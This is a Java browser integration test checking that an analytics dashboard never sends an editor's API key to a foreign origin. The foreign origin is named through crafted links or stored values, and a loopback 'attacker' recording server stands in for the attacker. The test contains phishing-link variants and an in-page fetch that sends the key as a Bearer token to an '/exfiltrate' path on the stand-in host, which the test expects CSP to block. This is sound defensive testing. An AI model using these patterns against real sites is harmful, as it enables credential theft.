package io.readpulse.local.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.openqa.selenium.By;
import org.openqa.selenium.WebDriver;

/**
 * The phishing link of the hardening issue: the dashboard opened with someone else's API in its
 * address (or in its storage, from an older version) never sends the editor's key anywhere but its
 * own origin. A second server on another port stands for the attacker's host and records every
 * request it gets, with its headers; after the editor has typed the key and the reports have
 * loaded from the page's own origin, it must have seen none. The page's Content-Security-Policy
 * also stops a script on the page from reaching it.
 */
class DashboardOriginBrowserIT extends BrowserTest {
    static final String DASHBOARD = "/dashboard/index.html";
    static final String ARTICLE = "origin-test-story";

    RecordingServer attacker;
    String key;

    @BeforeAll
    void keyTrafficAndAttacker() throws Exception {
        attacker = RecordingServer.start();
        key = lastLine(local.admin("key", "create", SITE, "--label", "origin test"));
        HttpRequest view = HttpRequest.newBuilder(URI.create(local.baseUrl() + "/v1/events"))
                .header("content-type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"site\":\"demo-news\",\"type\":\"view\",\"article\":{\"id\":\"" + ARTICLE
                        + "\",\"url\":\"" + local.baseUrl() + "/demo/world/" + ARTICLE + ".html\",\"section\":\"World\","
                        + "\"title\":\"The origin test story\",\"publishedAt\":\"2026-01-01T06:00:00Z\"}}")).build();
        HttpResponse<String> response = HttpClient.newHttpClient().send(view, HttpResponse.BodyHandlers.ofString());
        assertEquals(202, response.statusCode(), response.body());
        drainStream();
    }

    @BeforeEach
    void forgetEarlierRequests() {
        attacker.clear();
    }

    @AfterAll
    void stopAttacker() {
        if (attacker != null) {
            attacker.close();
        }
    }

    /** The ways a link could try to name another API: the old ?api=, a fragment, another parameter name, a scheme-relative URL. */
    Stream<String> foreignApiLinks() {
        String foreign = "http://127.0.0.1:" + attacker.port();
        return Stream.of(
                "?api=" + foreign + "&site=demo-news",
                "?site=demo-news#api=" + foreign,
                "?base=" + foreign + "&site=demo-news",
                "?api=//127.0.0.1:" + attacker.port() + "&site=demo-news",
                "?site=demo-news&api=" + foreign + "/v1/sites/demo-news/reports/");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("foreignApiLinks")
    void aForeignApiInTheLinkNeverReceivesTheKey(String link) {
        open(DASHBOARD + link);
        assertEquals("demo-news", browser.driver().findElement(By.id("site")).getAttribute("value"), "the link still names the site");
        signInAndSeeReports();
        assertTheAttackerSawNothing(link);
        assertNoApiInStorage();
    }

    /** A base URL an earlier version remembered in localStorage (set by such a link) is forgotten, not used. */
    @Test
    void aForeignApiRememberedByAnEarlierVersionIsForgotten() {
        open(DASHBOARD);
        browser.script("localStorage.setItem('readpulse.api', arguments[0]); localStorage.setItem('readpulse.site', 'demo-news');",
                "http://127.0.0.1:" + attacker.port());
        open(DASHBOARD);
        assertEquals("demo-news", browser.driver().findElement(By.id("site")).getAttribute("value"));
        signInAndSeeReports();
        assertTheAttackerSawNothing("a stored readpulse.api");
        assertNoApiInStorage();
    }

    /** Even a script running in the page (say, injected) cannot send the key elsewhere: connect-src is the page's own origin. */
    @Test
    void thePagesPolicyStopsAScriptFromReachingAnotherOrigin() {
        open(DASHBOARD);
        Object outcome = browser.script("return fetch(arguments[0], {method: 'POST', headers: {'authorization': 'Bearer ' + arguments[1]}, body: 'x'})"
                + ".then(function () { return 'sent'; }, function (e) { return 'blocked: ' + e; });",
                "http://127.0.0.1:" + attacker.port() + "/exfiltrate", key);
        assertTrue(String.valueOf(outcome).startsWith("blocked"), "the fetch went out: " + outcome);
        assertTheAttackerSawNothing("a script's own fetch");
        assertTrue(browser.driver().findElements(By.id("api-base")).isEmpty(), "the page has no API field any more");
        browser.clearConsole();
    }

    private void signInAndSeeReports() {
        browser.clearConsole();
        WebDriver page = browser.driver();
        page.findElement(By.id("api-key")).sendKeys(key);
        page.findElement(By.id("load")).click();
        browser.waitUntil(Duration.ofSeconds(10), driver -> !attacker.requests().isEmpty()
                || driver.findElements(By.cssSelector("#top-list tr[data-article-id='" + ARTICLE + "']")).size() == 1);
        assertEquals(List.of(), attacker.requests(), "the foreign host received the dashboard's requests");
        browser.await(driver -> driver.findElements(By.cssSelector("#top-list tr[data-article-id='" + ARTICLE + "']")).size() == 1);
        browser.driver().findElement(By.cssSelector("#top-list tr[data-article-id='" + ARTICLE + "'] .title button")).click();
        browser.await(driver -> driver.findElement(By.id("article")).isDisplayed());
        assertEquals("1", page.findElement(By.id("total-views")).getText(), "the reports came from the page's own origin");
        assertFalse(page.findElement(By.id("error")).isDisplayed(), page.findElement(By.id("error")).getText());
        assertEquals(List.of(), browser.consoleErrors());
    }

    private void assertTheAttackerSawNothing(String what) {
        sleep(300);
        assertEquals(List.of(), attacker.requests(), what + ": the foreign host received requests");
    }

    private void assertNoApiInStorage() {
        @SuppressWarnings("unchecked")
        Map<String, Object> stored = (Map<String, Object>) browser.script(
                "var all = {}; for (var i = 0; i < localStorage.length; i++) { all[localStorage.key(i)] = localStorage.getItem(localStorage.key(i)); }"
                        + " for (var j = 0; j < sessionStorage.length; j++) { all['session:' + sessionStorage.key(j)] = sessionStorage.getItem(sessionStorage.key(j)); }"
                        + " return all;");
        assertFalse(stored.containsKey("readpulse.api"), "an API base in storage: " + stored);
        stored.forEach((name, value) -> {
            assertFalse(String.valueOf(value).contains("127.0.0.1") || String.valueOf(value).contains("http"), "a URL in storage: " + name + "=" + value);
            // The key is remembered, by design, under readpulse.key only (docs/reports.md, "The key"); never beside a URL.
            assertFalse(!name.equals("readpulse.key") && String.valueOf(value).contains(key), "the key in storage: " + name);
        });
    }

    private static String lastLine(String output) {
        String[] lines = output.trim().split("\n");
        return lines[lines.length - 1].trim();
    }

    /** Another origin's server that answers everything (CORS included) and records each request with its headers. */
    static final class RecordingServer implements AutoCloseable {
        private final HttpServer server;
        private final List<String> requests = new ArrayList<>();

        private RecordingServer(HttpServer server) {
            this.server = server;
        }

        static RecordingServer start() {
            try {
                HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 16);
                RecordingServer recorder = new RecordingServer(server);
                server.createContext("/", exchange -> {
                    try (exchange) {
                        synchronized (recorder.requests) {
                            recorder.requests.add(exchange.getRequestMethod() + " " + exchange.getRequestURI() + " " + exchange.getRequestHeaders().entrySet());
                        }
                        exchange.getResponseHeaders().add("access-control-allow-origin", "*");
                        exchange.getResponseHeaders().add("access-control-allow-headers", "*");
                        exchange.getResponseHeaders().add("access-control-allow-methods", "*");
                        exchange.getResponseHeaders().add("content-type", "application/json");
                        byte[] body = "{}".getBytes(StandardCharsets.UTF_8);
                        exchange.sendResponseHeaders(200, body.length);
                        exchange.getResponseBody().write(body);
                    }
                });
                server.start();
                return recorder;
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        int port() {
            return server.getAddress().getPort();
        }

        void clear() {
            synchronized (requests) {
                requests.clear();
            }
        }

        List<String> requests() {
            synchronized (requests) {
                return List.copyOf(requests);
            }
        }

        @Override
        public void close() {
            server.stop(0);
        }
    }
}
